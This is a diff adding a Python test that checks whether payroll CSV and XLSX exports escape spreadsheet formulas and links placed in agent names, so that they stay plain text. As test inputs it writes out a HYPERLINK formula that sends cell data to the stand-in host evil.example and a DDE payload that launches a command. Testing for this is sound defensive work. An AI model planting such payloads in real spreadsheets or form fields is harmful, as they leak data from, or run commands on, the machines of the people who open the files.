@@ -274,3 +274,29 @@ async def test_an_unknown_language_or_bom_is_a_422_naming_it(api: Api) -> None:
     assert error(r, 422, "invalid_field")["message"] == "lang 'fr' is not one of en, zh-CN"
     r = await api.call("GET", "/v1/payroll/2026-11?format=csv&bom=yes", payroll)
     assert error(r, 422, "invalid_field")["detail"] == {"field": "bom"}
+
+
+async def test_exports_never_carry_a_live_formula_or_link_from_user_text(api: Api) -> None:
+    """Payroll staff open these in a spreadsheet: an agent named like a formula stays text."""
+    await _november(api)
+    evil = {
+        "a1": ('=HYPERLINK("http://evil.example/?"&A1,"pay")', "+north"),
+        "b1": ("@SUM(1+1)*cmd|' /C calc'!A0", "http://evil.example/team"),
+    }
+    for agent_id, (name, team) in evil.items():
+        body = {"name": name, "team": team, "skills": [], "capacity": 10}
+        await api.ok("PUT", f"/v1/agents/{agent_id}", json=body)
+    payroll = await api.key("payroll")
+    r = await api.call("GET", "/v1/payroll/2026-11?format=csv", payroll)
+    rows = {row["agent_id"]: row for row in csv.DictReader(io.StringIO(r.text))}
+    assert rows["a1"]["name"] == "'" + evil["a1"][0] and rows["a1"]["team"] == "'+north"
+    assert rows["b1"]["name"] == "'" + evil["b1"][0]
+    assert rows["b1"]["team"] == "http://evil.example/team"  # a link only in a spreadsheet: below
+    r = await api.call("GET", "/v1/payroll/2026-11?format=xlsx", payroll)
+    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the sheet"
+    assert not [c.coordinate for c in cells if c.hyperlink is not None], "a link in the sheet"
+    names = {sheet.cell(i, 1).value: sheet.cell(i, 2).value for i in (2, 3)}
+    assert names == {"a1": "'" + evil["a1"][0], "b1": "'" + evil["b1"][0]}
+    assert sheet.cell(3, 3).value == "http://evil.example/team"  # text, not a link
